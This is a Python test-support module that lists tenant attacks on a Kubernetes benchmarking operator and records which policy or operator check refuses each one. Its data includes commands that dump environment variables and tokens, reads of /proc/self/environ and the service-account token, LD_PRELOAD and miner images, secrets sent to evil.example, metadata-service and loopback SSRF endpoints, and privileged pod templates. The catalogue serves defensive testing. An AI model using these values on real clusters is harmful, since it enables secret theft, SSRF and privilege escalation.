"""Attacks of a person who may create runs and campaigns in one namespace: what each tries, and what refuses it.

`tests/test_operator/test_tenant_attacks.py` tries each of them on a real cluster.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from enum import StrEnum
from typing import Any

from specbench_testing.fenced_runs import FENCE
from specbench_testing.resources import MISSING, resource

Edits = Mapping[str, Any]

BUCKET = "bench-results"
OPERATOR_ACCOUNT = "specbench-operator"
TENANT_FENCE: dict[str, Any] = {
    **FENCE,
    "secretsOptIn": True,
    "env": [*FENCE["env"], "MODEL_NOTE"],
    "podLabels": [*FENCE["podLabels"], "specbench.io/*"],
    "podAnnotations": [*FENCE["podAnnotations"], "container.apparmor.security.beta.kubernetes.io/*"],
    "stores": [{"endpoint": "http://*", "bucket": BUCKET, "operatorIdentity": False}],
    "endpoints": ["http://*"],
}
"""The fence of these tests. The wildcard endpoints let addresses through that only the check of addresses refuses,
and the lists for pods contain keys that only the check of reserved keys refuses."""


class Open(StrEnum):
    """What happens to an attack without fence, opt-in of Secrets and admission policies."""

    SUCCEEDS = "succeeds"
    """A Job has what the attack asks for."""
    CONNECTS = "the operator connects"
    """The operator sends requests to the address."""
    REFUSED = "refused too"
    """A rule that is part of every installation refuses it."""


@dataclass(frozen=True)
class Attack:
    """One attack: an edit of a run that is otherwise allowed.

    `name`: also the name of the run. `admission`: the field below `spec` that the API server names when it refuses the
    run; empty: it accepts the run. `condition`: the field that the operator names in the condition Validated; empty:
    it accepts the run. `without`: the result without fence, opt-in and policies. `gets`: part of a Job's manifest if
    that succeeds.
    """

    name: str
    edits: Edits
    admission: str
    condition: str
    gets: Mapping[str, Any] | None = None
    without: Open = Open.SUCCEEDS

    @property
    def by_schema(self) -> bool:
        """Whether the resource's schema refuses it, so that the operator never sees it."""
        return self.without is Open.REFUSED and bool(self.admission)

    @property
    def axis(self) -> tuple[str, Any] | None:
        """The field of the run's spec and its value, as an axis of a campaign sets them; None if an axis cannot."""
        if len(self.edits) != 1:
            return None
        ((path, value),) = self.edits.items()
        return None if value is MISSING or not path.startswith("spec.") else (path.removeprefix("spec."), value)


_REQUIRED = "requiredDuringSchedulingIgnoredDuringExecution"
_PREFERRED = "preferredDuringSchedulingIgnoredDuringExecution"
_HOST = "kubernetes.io/hostname"
_ZONE = "topology.kubernetes.io/zone"
_ENVIRON = "/proc/self/environ"
_OTHERS = "s3://prod-data"
_TOKEN_FILE = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def _fenced(name: str, path: str, value: Any, gets: Mapping[str, Any], shown: str = "") -> Attack:
    """An attack that the policy and the operator refuse for the same field."""
    condition = shown or path
    return Attack(name, {f"spec.{path}": value}, condition, condition, gets)


def _schema(name: str, path: str, value: Any, shown: str = "") -> Attack:
    """An attack that the resource's schema refuses on every cluster."""
    return Attack(name, {f"spec.{path}": value}, shown or path, "", without=Open.REFUSED)


def _file(name: str, path: str, value: Any, shown: str = "", **more: Any) -> Attack:
    """A file that the operator refuses on every cluster."""
    edits = {f"spec.{path}": value, **{f"spec.{key}": each for key, each in more.items()}}
    return Attack(name, edits, "", shown or path, without=Open.REFUSED)


def _address(name: str, endpoint: str) -> Attack:
    """An S3 endpoint that the operator must not send requests to. The policies do not check addresses of IPv6."""
    path = "results.s3.endpoint"
    return Attack(name, {f"spec.{path}": endpoint}, "" if "[" in endpoint else path, path, without=Open.CONNECTS)


def _affinity(name: str, kind: str, when: str, terms: Any, shown: str) -> Attack:
    path = f"placement.affinity.{kind}.{when}"
    return _fenced(name, "placement.affinity", {kind: {when: terms}}, {kind: {when: terms}}, path + shown)


def _env(name: str, variable: str, value: str) -> Attack:
    row = {"name": variable, "value": value}
    return _fenced(name, "engine.env", [row], row, "engine.env[0].name")


def _image(name: str, image: str) -> Attack:
    return _fenced(name, "engine.image", image, {"image": image})


def _claim(name: str) -> dict[str, str]:
    return {"claimName": name, "path": "x"}


def _template(**fields: str) -> dict[str, str]:
    return {"appliedBy": "Client", **fields}


_MEMBERS = [
    {"name": "a", "weight": 1, "source": "jsonl", "uri": "/usr/share/specbench/prompts.jsonl"},
    {"name": "b", "weight": 1, "source": "jsonl"},
]


def _mix(**fields: Any) -> dict[str, Any]:
    return {"source": "mix", "count": 2, "members": [_MEMBERS[0], {**_MEMBERS[1], **fields}]}


_SECRET_ATTACKS = (
    Attack(
        "token-of-others", {"spec.model.tokenSecretRef": {"name": "prod-db", "key": "password"}},
        "model.tokenSecretRef.name", "model.tokenSecretRef.name",
        {"secretKeyRef": {"name": "prod-db", "key": "password"}},
    ),
    Attack(
        "token-to-message",
        {
            "spec.model.tokenSecretRef": {"name": "prod-db", "key": "password"},
            "spec.engine.command": ["sh", "-c", "printenv HF_TOKEN > /dev/termination-log"],
        },
        "model.tokenSecretRef.name", "model.tokenSecretRef.name",
        {"command": ["sh", "-c", "printenv HF_TOKEN > /dev/termination-log"]},
    ),
    Attack(
        "keys-of-others", {"spec.results.s3.credentialsSecretRef": {"name": "prod-s3"}},
        "results.s3.credentialsSecretRef.name", "results.s3.credentialsSecretRef.name",
        {"secretKeyRef": {"name": "prod-s3"}},
    ),
    Attack(
        "pull-secret-of-others", {"spec.placement.imagePullSecrets": [{"name": "prod-db"}]},
        "placement.imagePullSecrets[0].name", "placement.imagePullSecrets[0].name",
        {"imagePullSecrets": [{"name": "prod-db"}]},
    ),
    Attack(
        "missing-secret", {"spec.model.tokenSecretRef": {"name": "absent", "key": "password"}},
        "model.tokenSecretRef.name", "model.tokenSecretRef.name", {"secretKeyRef": {"name": "absent"}},
    ),
    Attack(
        "keys-as-token", {"spec.model.tokenSecretRef": {"name": "bench-s3", "key": "AWS_SECRET_ACCESS_KEY"}},
        "", "model.tokenSecretRef.name", {"secretKeyRef": {"name": "bench-s3", "key": "AWS_SECRET_ACCESS_KEY"}},
    ),
    Attack(
        "keys-as-pull-secret", {"spec.placement.imagePullSecrets": [{"name": "bench-s3"}]},
        "", "placement.imagePullSecrets[0].name", {"imagePullSecrets": [{"name": "bench-s3"}]},
    ),
    # The label allows these uses, so only the right of the person who applies the run decides.
    Attack(
        "labelled-token", {"spec.model.tokenSecretRef": {"name": "team-hub", "key": "HF_TOKEN"}},
        "model.tokenSecretRef.name", "", {"secretKeyRef": {"name": "team-hub"}},
    ),
    Attack(
        "labelled-keys", {"spec.results.s3.credentialsSecretRef": {"name": "team-s3"}},
        "results.s3.credentialsSecretRef.name", "", {"secretKeyRef": {"name": "team-s3"}},
    ),
)  # fmt: skip
_FILE_ATTACKS = (
    _file("environ-as-prompts", "workloads[0].dataset.uri", _ENVIRON),
    _file("token-as-prompts", "workloads[0].dataset.uri", _TOKEN_FILE),
    _file("dots-as-prompts", "workloads[0].dataset.uri", f"/usr/share/specbench/../../..{_ENVIRON}"),
    _file("relative-dots", "workloads[0].dataset.uri", f"..{_ENVIRON}"),
    _file("device-as-prompts", "workloads[0].dataset.uri", "/dev/zero"),
    _file("environ-in-mix", "workloads[0].dataset", _mix(uri=_ENVIRON), "workloads[0].dataset.members[1].uri"),
    _file(
        "environ-as-template", "workloads[0].chatTemplate", _template(template=_ENVIRON),
        "workloads[0].chatTemplate.template",
    ),
    _file(
        "token-as-template", "workloads[0].chatTemplate", _template(template=_TOKEN_FILE),
        "workloads[0].chatTemplate.template",
    ),
    _file(
        "environ-as-tokenizer", "workloads[0].chatTemplate", _template(tokenizer=_ENVIRON),
        "workloads[0].chatTemplate.tokenizer",
    ),
    _file(
        "environ-as-trace", "load", {"arrival": {"process": "Trace", "uri": _ENVIRON}, "slots": 4, "requests": 8},
        "load.arrival.uri",
    ),
    _schema("model-outside-claim", "model.pvc", {"claimName": "models", "path": "../../x"}),
    _schema(
        "prompts-outside-claim", "workloads[0].dataset",
        {"source": "jsonl", "pvc": {"claimName": "prompts-a", "path": "../x"}}, "workloads[0].dataset.pvc",
    ),
)  # fmt: skip
_ACCOUNT_ATTACKS = (
    _fenced(
        "operator-account", "placement.client.serviceAccountName", OPERATOR_ACCOUNT,
        {"serviceAccountName": OPERATOR_ACCOUNT},
    ),
    _fenced(
        "operator-account-engine", "placement.engineServiceAccountName", OPERATOR_ACCOUNT,
        {"serviceAccountName": OPERATOR_ACCOUNT},
    ),
    _fenced("admin-account", "placement.client.serviceAccountName", "admin", {"serviceAccountName": "admin"}),
    _fenced("admin-account-engine", "placement.engineServiceAccountName", "admin", {"serviceAccountName": "admin"}),
    Attack(
        "operator-identity", {"spec.results.s3.credentialsSecretRef": MISSING},
        "results.s3.credentialsSecretRef", "results.s3.credentialsSecretRef", {},
    ),
)  # fmt: skip
_VOLUME_ATTACKS = (
    _fenced("claim-as-model", "model.pvc", _claim("finance"), {"claimName": "finance"}, "model.pvc.claimName"),
    _fenced(
        "claim-as-prompts", "workloads[0].dataset", {"source": "jsonl", "pvc": _claim("finance")},
        {"claimName": "finance"}, "workloads[0].dataset.pvc.claimName",
    ),
    _fenced(
        "claim-in-mix", "workloads[0].dataset", _mix(pvc=_claim("finance")), {"claimName": "finance"},
        "workloads[0].dataset.members[1].pvc.claimName",
    ),
    _fenced(
        "claim-as-cache", "placement.modelCache", {"claimName": "finance"}, {"claimName": "finance"},
        "placement.modelCache.claimName",
    ),
    _fenced(
        "write-to-claim", "placement.modelCache", {"claimName": "models", "fill": True}, {"claimName": "models"},
        "placement.modelCache.claimName",
    ),
    Attack(
        "claimed-devices", {"spec.placement.resourceClaimTemplateName": "all", "spec.placement.claimedGpus": 1},
        "placement.resourceClaimTemplateName", "placement.resourceClaimTemplateName",
        {"resourceClaimTemplateName": "all"},
    ),
    Attack(
        "network-device", {"spec.placement.gpus": 1, "spec.placement.gpuResourceName": "example.com/nic"},
        "placement.gpuResourceName", "placement.gpuResourceName", {"example.com/nic": "1"},
    ),
)  # fmt: skip
_NODE_ATTACKS = (
    _fenced(
        "critical-priority", "placement.priorityClassName", "system-node-critical",
        {"priorityClassName": "system-node-critical"},
    ),
    _fenced("queue-of-others", "placement.queueName", "prod", {"kueue.x-k8s.io/queue-name": "prod"}),
    Attack(
        "queue-priority", {"spec.placement.queueName": "team-a", "spec.placement.queuePriorityClass": "urgent"},
        "placement.queuePriorityClass", "placement.queuePriorityClass", {"kueue.x-k8s.io/priority-class": "urgent"},
    ),
    _fenced("runtime-class", "placement.runtimeClassName", "privileged", {"runtimeClassName": "privileged"}),
    _fenced(
        "tolerate-all", "placement.tolerations", [{"operator": "Exists"}], {"tolerations": [{"operator": "Exists"}]},
        "placement.tolerations[0].key",
    ),
    _fenced(
        "control-plane", "placement.tolerations",
        [{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}],
        {"key": "node-role.kubernetes.io/control-plane"}, "placement.tolerations[0].key",
    ),
    _fenced(
        "node-by-name", "placement.nodeSelector", {_HOST: "none"}, {_HOST: "none"}, f"placement.nodeSelector[{_HOST}]"
    ),
    _fenced(
        "client-on-control-plane", "placement.client.nodeSelector", {"node-role.kubernetes.io/control-plane": ""},
        {"node-role.kubernetes.io/control-plane": ""},
        "placement.client.nodeSelector[node-role.kubernetes.io/control-plane]",
    ),
    _affinity(
        "affinity-to-node", "nodeAffinity", _REQUIRED,
        {"nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["none"]}]}]},
        ".nodeSelectorTerms[0].matchFields[0].key",
    ),
    _affinity(
        "affinity-to-label", "nodeAffinity", _PREFERRED,
        [{"weight": 1, "preference": {"matchExpressions": [{"key": _HOST, "operator": "Exists"}]}}],
        "[0].preference.matchExpressions[0].key",
    ),
    _affinity(
        "near-other-namespaces", "podAffinity", _REQUIRED, [{"topologyKey": _ZONE, "namespaceSelector": {}}],
        "[0].namespaceSelector",
    ),
    _affinity(
        "expel-other-pods", "podAntiAffinity", _REQUIRED, [{"topologyKey": _ZONE, "namespaces": ["kube-system"]}],
        "[0].namespaces",
    ),
)  # fmt: skip
_IMAGE_ATTACKS = (
    _fenced(
        "own-command", "engine.command", ["sh", "-c", "env > /dev/termination-log"],
        {"command": ["sh", "-c", "env > /dev/termination-log"]},
    ),
    _image("own-image", "evil.example/miner:1"),
    _image("image-with-look-alike-path", "evil.example/registry.example/team/engine:1"),
    _image("image-with-look-alike-host", "registryXexample/one:1"),
    _image("image-like-the-default", "vllm/vllm-openai-x:1"),
    _env("preload", "LD_PRELOAD", "/models/evil.so"),
    _env("all-gpus", "NVIDIA_VISIBLE_DEVICES", "all"),
    _env("other-hub", "HF_ENDPOINT", "https://evil.example"),
    _env("python-path", "PYTHONPATH", "/models/evil"),
)  # fmt: skip
_LIMIT_ATTACKS = (
    _fenced("many-gpus", "placement.gpus", 64, {"nvidia.com/gpu": "64"}),
    _fenced("long-run", "activeDeadlineSeconds", 864_000, {}),
    _fenced("long-lived-children", "ttlSecondsAfterFinished", 6_048_000, {}),
)
_STORE_ATTACKS = (
    _address("metadata-service", "http://169.254.169.254"),
    _address("metadata-service-alibaba", "http://100.100.100.200"),
    _address("link-local", "http://169.254.1.1:9000"),
    _address("loopback", "http://127.0.0.1:9000"),
    _address("loopback-name", "http://localhost:9000"),
    _address("loopback-decimal", "http://2130706433:9000"),
    _address("loopback-octal", "http://0177.0.0.1:9000"),
    _address("loopback-ipv6", "http://[::1]:9000"),
    _address("loopback-mapped", "http://[::ffff:127.0.0.1]:9000"),
    Attack(
        "unlisted-endpoint", {"spec.results.s3.endpoint": "https://s3.evil.example"}, "results.s3", "results.s3",
        without=Open.CONNECTS,
    ),
    Attack(
        "bucket-of-others", {"spec.results.s3.bucket": "prod-data"}, "results.s3", "results.s3", without=Open.CONNECTS
    ),
    # What clients read from S3 is read with the keys and at the endpoint of the results.
    _fenced("model-of-others", "model.uri", f"{_OTHERS}/llama", {}),
    _fenced("prompts-of-others", "workloads[0].dataset.uri", f"{_OTHERS}/a.jsonl", {}),
    _fenced(
        "prompts-of-others-in-mix", "workloads[0].dataset", _mix(uri=f"{_OTHERS}/a.jsonl"), {},
        "workloads[0].dataset.members[1].uri",
    ),
    _fenced(
        "template-of-others", "workloads[0].chatTemplate", _template(template=f"{_OTHERS}/a.jinja"), {},
        "workloads[0].chatTemplate.template",
    ),
    _fenced(
        "tokenizer-of-others", "workloads[0].chatTemplate", _template(tokenizer=_OTHERS), {},
        "workloads[0].chatTemplate.tokenizer",
    ),
    _fenced(
        "trace-of-others", "load",
        {"arrival": {"process": "Trace", "uri": f"{_OTHERS}/a.csv"}, "slots": 4, "requests": 8}, {},
        "load.arrival.uri",
    ),
    _fenced("baseline-of-others", "gate", {"baselineRef": {"uri": f"{_OTHERS}/x"}}, {}, "gate.baselineRef.uri"),
    _schema("user-in-endpoint", "results.s3.endpoint", "http://user:pw@s3.example"),
    _schema("query-in-endpoint", "results.s3.endpoint", "http://169.254.169.254/?x=1"),
    _schema("fragment-in-endpoint", "results.s3.endpoint", "http://169.254.169.254/#x"),
    _schema("prefix-leads-out", "results.s3.prefix", "a/../../other", "results.s3"),
)  # fmt: skip


def _server(name: str, url: str, shown: str = "engine.endpoints[0]", **engine: Any) -> Attack:
    """A run that sends load to a server, whose client the policy and the operator refuse for the same field."""
    endpoint = {"name": "server", "url": url}
    edits = {
        "spec.engine": {"kind": "external", "endpoints": [endpoint], **engine},
        "spec.drafters": [],
        "spec.placement": {"client": {"nodeSelector": {"nvidia.com/gpu.product": "none"}}},
    }
    gets = {"secretKeyRef": {"name": "prod-db", "key": "password"}} if engine else {"command": ["specbench-client"]}
    return Attack(name, edits, shown, shown, gets)


_SERVER_ATTACKS = (
    _server("load-on-others", "https://payments.prod.example"),
    _server("load-on-a-path-of-others", "http://payments.prod/api"),
    _server("load-on-the-metadata-service", "http://169.254.169.254"),
    _server("load-on-loopback", "http://127.0.0.1:8000"),
    _server("load-on-loopback-decimal", "http://2130706433:8000"),
    _server(
        "secret-as-api-key", "http://evil.example:8000", "engine.apiKeySecretRef.name",
        apiKeySecretRef={"name": "prod-db", "key": "password"},
    ),
)  # fmt: skip
_POD = "placement.template"
_ENGINE = f"{_POD}.spec.containers[0]"


def _pod(name: str, template: Mapping[str, Any], gets: Any, shown: str, **more: Any) -> Attack:
    """A pod template that the policy and the operator refuse for the same field."""
    return Attack(name, {f"spec.{_POD}": template}, shown, shown, gets, **more)


def _labels(**labels: str) -> dict[str, Any]:
    return {"metadata": {"labels": labels}}


def _annotated(key: str, value: str) -> dict[str, Any]:
    return {"metadata": {"annotations": {key: value}}}


def _container(**fields: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "engine", **fields}]}}


def _from(source: str, **fields: str) -> dict[str, Any]:
    return {"env": [{"name": "VLLM_NOTE", "valueFrom": {source: fields}}]}


def _volume(**source: Any) -> dict[str, Any]:
    return {"spec": {"volumes": [{"name": "more", **source}]}}


def _outside(name: str, template: Mapping[str, Any], shown: str) -> Attack:
    """A field that the template does not have: the API server refuses it by name, or drops it."""
    return Attack(name, {f"spec.{_POD}": template}, f"{_POD}.{shown}", "", without=Open.REFUSED)


def _reserved(name: str, template: Mapping[str, Any], shown: str) -> Attack:
    """What conflicts with the operator's own fields, which it refuses on every cluster."""
    return Attack(name, {f"spec.{_POD}": template}, "", f"{_POD}.{shown}", without=Open.REFUSED)


_NETWORKS = "k8s.v1.cni.cncf.io/networks"
_TEMPLATE_ATTACKS = (
    Attack(
        "secret-as-variable", {f"spec.{_POD}": _container(**_from("secretKeyRef", name="prod-db", key="password"))},
        _POD, f"{_ENGINE}.env[0].valueFrom.secretKeyRef.name", {"secretKeyRef": {"name": "prod-db", "key": "password"}},
    ),
    Attack(
        "secret-as-volume", {f"spec.{_POD}": _volume(secret={"secretName": "prod-db"})},
        _POD, f"{_POD}.spec.volumes[0].secret.secretName", {"secret": {"secretName": "prod-db"}},
    ),
    Attack(
        "s3-keys-as-variable",
        {f"spec.{_POD}": _container(**_from("secretKeyRef", name="bench-s3", key="AWS_SECRET_ACCESS_KEY"))},
        "", f"{_ENGINE}.env[0].valueFrom.secretKeyRef.name", {"secretKeyRef": {"name": "bench-s3"}},
    ),
    Attack(
        "labelled-secret-as-volume", {f"spec.{_POD}": _volume(secret={"secretName": "team-engine"})},
        _POD, "", {"secret": {"secretName": "team-engine"}},
    ),
    _pod(
        "config-map-of-others", _container(**_from("configMapKeyRef", name="prod-config", key="dsn")),
        {"configMapKeyRef": {"name": "prod-config"}}, f"{_ENGINE}.env[0].valueFrom.configMapKeyRef.name",
    ),
    _pod(
        "config-map-as-volume", _volume(configMap={"name": "prod-config"}), {"configMap": {"name": "prod-config"}},
        f"{_POD}.spec.volumes[0].configMap.name",
    ),
    _pod(
        "claim-in-template", _volume(persistentVolumeClaim={"claimName": "finance"}), {"claimName": "finance"},
        f"{_POD}.spec.volumes[0].persistentVolumeClaim.claimName",
    ),
    _pod(
        "preload-from-field",
        _container(env=[{"name": "LD_PRELOAD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}}]),
        {"name": "LD_PRELOAD"}, f"{_ENGINE}.env[0].name",
    ),
    _pod("uncounted-gpus", _container(resources={"limits": {"amd.com/gpu": 8}}), {"amd.com/gpu": "8"},
         f"{_ENGINE}.resources.limits[amd.com/gpu]"),
    _pod("lock-memory", _container(securityContext={"capabilities": {"add": ["IPC_LOCK"]}}), {"add": ["IPC_LOCK"]},
         f"{_ENGINE}.securityContext.capabilities.add[0]"),
    # A Service of the namespace would send its requests to the engine.
    _pod("label-of-a-service", _labels(app="payments"), {"app": "payments"}, f"{_POD}.metadata.labels[app]"),
    _pod("network-of-others", _annotated(_NETWORKS, "prod/net"), {_NETWORKS: "prod/net"},
         f"{_POD}.metadata.annotations[{_NETWORKS}]"),
    Attack(
        "client-network-of-others", {"spec.placement.client.template": _annotated(_NETWORKS, "prod/net")},
        f"placement.client.template.metadata.annotations[{_NETWORKS}]",
        f"placement.client.template.metadata.annotations[{_NETWORKS}]", {_NETWORKS: "prod/net"},
    ),
    _fenced(
        "client-tolerates-all", "placement.client.tolerations", [{"operator": "Exists"}],
        {"tolerations": [{"operator": "Exists"}]}, "placement.client.tolerations[0].key",
    ),
    _outside("host-path", _volume(hostPath={"path": "/"}), "spec.volumes[0].hostPath"),
    _outside("privileged", _container(securityContext={"privileged": True}),
             "spec.containers[0].securityContext.privileged"),
    _outside("all-capabilities", _container(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
             "spec.containers[0].securityContext.capabilities.add[0]"),
    _outside("sidecar", {"spec": {"containers": [{"name": "more", "image": "evil.example/x"}]}},
             "spec.containers[0].image"),
    _outside("host-network", {"spec": {"hostNetwork": True}}, "spec.hostNetwork"),
    _outside("writable-claim", _volume(persistentVolumeClaim={"claimName": "models", "readOnly": False}),
             "spec.volumes[0].persistentVolumeClaim"),
    _reserved("label-of-the-operator", _labels(**{"specbench.io/role": "client"}),
              "metadata.labels[specbench.io/role]"),
    _reserved("no-apparmor", _annotated("container.apparmor.security.beta.kubernetes.io/engine", "unconfined"),
              "metadata.annotations[container.apparmor.security.beta.kubernetes.io/engine]"),
    _reserved(
        "mount-over-the-model",
        {"spec": {"volumes": [{"name": "more", "emptyDir": {"sizeLimit": "1Gi"}}],
                  "containers": [{"name": "engine", "volumeMounts": [{"name": "more", "mountPath": "/models/x"}]}]}},
        "spec.containers[0].volumeMounts[0].mountPath",
    ),
)  # fmt: skip


def _forged(name: str, field: str, value: Any) -> Attack:
    """A run that pretends to be the operator's own work, so that its values would be trusted."""
    edits = {f"metadata.{field}": value, "spec.placement.runtimeClassName": "mine"}
    path = "placement.runtimeClassName"
    return Attack(name, edits, path, path, {"runtimeClassName": "mine"})


_METADATA_ATTACKS = (
    _forged("forged-labels", "labels", {"app.kubernetes.io/managed-by": "specbench", "specbench.io/role": "engine"}),
    _forged("forged-campaign", "labels", {"specbench.io/campaign": "nightly", "specbench.io/campaign-uid": "x"}),
    _forged("forged-annotations", "annotations", {"specbench.io/combination": "{}", "specbench.io/validated": "true"}),
)
ATTACKS: tuple[tuple[Attack, ...], ...] = (
    _SECRET_ATTACKS,
    _FILE_ATTACKS,
    _ACCOUNT_ATTACKS,
    _VOLUME_ATTACKS,
    _NODE_ATTACKS,
    _IMAGE_ATTACKS,
    _LIMIT_ATTACKS,
    _STORE_ATTACKS,
    _SERVER_ATTACKS,
    _TEMPLATE_ATTACKS,
    _METADATA_ATTACKS,
)
"""All attacks, by what they are after."""


@dataclass(frozen=True)
class DirectRequest:
    """A request to the API server without a run. `path` has the tenant's namespace in `{namespace}`."""

    name: str
    method: str
    path: str
    body: Any = None


_RUNS = "/apis/specbench.io/v1alpha1/namespaces/{namespace}/specbenchruns"
DIRECT_REQUESTS = (
    DirectRequest("read-secret", "GET", "/api/v1/namespaces/{namespace}/secrets/prod-db"),
    DirectRequest("list-secrets", "GET", "/api/v1/namespaces/{namespace}/secrets"),
    DirectRequest("create-job", "POST", "/apis/batch/v1/namespaces/{namespace}/jobs", {"metadata": {"name": "x"}}),
    DirectRequest(
        "token-of-account", "POST", "/api/v1/namespaces/{namespace}/serviceaccounts/default/token", {"spec": {}}
    ),
    DirectRequest("write-status", "PATCH", f"{_RUNS}/existing/status", {"status": {"phase": "Succeeded"}}),
    DirectRequest("run-elsewhere", "POST", _RUNS.replace("{namespace}", "default"), resource({}, namespace="default")),
)
"""What the tenant's rights do not allow: the API server refuses each with 403."""
